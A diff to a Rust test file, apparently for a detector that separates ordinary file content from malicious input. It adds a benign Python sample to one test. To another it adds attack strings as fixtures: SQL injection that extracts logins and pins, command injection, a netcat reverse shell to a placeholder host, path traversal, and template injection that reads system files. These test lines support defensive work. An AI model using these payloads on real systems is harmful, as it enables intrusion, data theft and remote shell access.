@@ -6,6 +6,7 @@ use crate::read::target::Target;
 #[test]
 fn what_files_and_consoles_hold() {
     let report = "WITH a AS (\n  SELECT\n    x\n  FROM t\n  WHERE x = 'it'\n), b AS (\n  SELECT\n    y\n  FROM u\n  UNION ALL\n  SELECT\n    z\n  FROM v\n  LIMIT 9\n)\n".repeat(12);
+    let program = "# How sessions are found.\n\nasync def f():\n    pass\n\n\ndef g(name):\n    result = subprocess.run(\n        [\"tmux\", \"list\"],\n        check=True,\n    )\n    return result\n\n\ndef h():\n    return 1\n";
     let cut = report.get(100..).unwrap();
     let rows = [
         "SELECT CAST(SUBSTRING(code, CHARINDEX('~', code) + 1, LEN(code)) AS BIGINT) FROM cards",
@@ -28,7 +29,7 @@ fn what_files_and_consoles_hold() {
         "list-type fields (`bools`/`ints`/`strings`/`versions`) for attributes",
         "nova networks, now deprecated.\n\n- ``defer_apply``\n",
         "| W <-----+\n| Type ----+\n",
-        "import subprocess\n\ndef f():\n    result = subprocess.run(\n        [\"tmux\", \"list\"],\n    )\n",
+        program,
         "Hi there\n\n\tFrom: Bob <bob@x.example>\n\tTo: Rob <rob@x.example>\n",
         "<meta name=\"generator\" content=\"x\" foo=\"y\"><iframe src=\"../a/b.html\" width=\"9\"></iframe>",
         "<xs:schema><xs:import namespace=\"http://x.example/\" schemaLocation=\"a.xsd\"/></xs:schema>",
@@ -58,6 +59,14 @@ fn what_does_harm_in_a_file_s_place_still_counts() {
         "SELECT CONCAT(a, (SELECT b FROM c WHERE d='",
         "SELECT a FROM b; SELECT pg_sleep(5)",
         "x' AND 1=CAST((SELECT version()) AS int)--",
+        "update' AND ORD(MID((SELECT IFNULL(CAST(pin AS NCHAR),0x20) FROM shop.users),1,1))>64 AND 'a'='a",
+        "With love from Anna' union select login,pin from users where '1'='1",
+        "line one of a text that is long enough for many\nline two of it\n'; id; '\nline four of it\n",
+        "line one of a text that is long enough for many\nline two of it\n\"x\"|nc x.example 9 -e /bin/sh\nfour\n",
+        "../../../../config/x.yml\n\n\n\n",
+        "{{ a|attr('gi_frame')|attr('f_globals') }}",
+        "{{ tpl.include('/etc/hosts') }}",
+        "os.popen(\n'id')",
         "{% load log %}{% get_admin_log 9 as x %}",
         "{% include request.args.x %}",
         "{% include \"../../../etc/passwd\" %}",
@@ -86,6 +95,7 @@ fn what_does_harm_in_a_file_s_place_still_counts() {
         "(select count(*) from generate_series(1,5000000))",
         "select pin as id from cards",
         "' or 'a' 'a",
+        "1'#a\nUNION#b\nSELECT#c\nlogin,pin#d\nFROM#e\nusers-- -",
         "x'; copy t to '/tmp/x.jsp';--",
         "http://127.0.0.1:8088/1.png",
         "http://x.eyes.sh/",
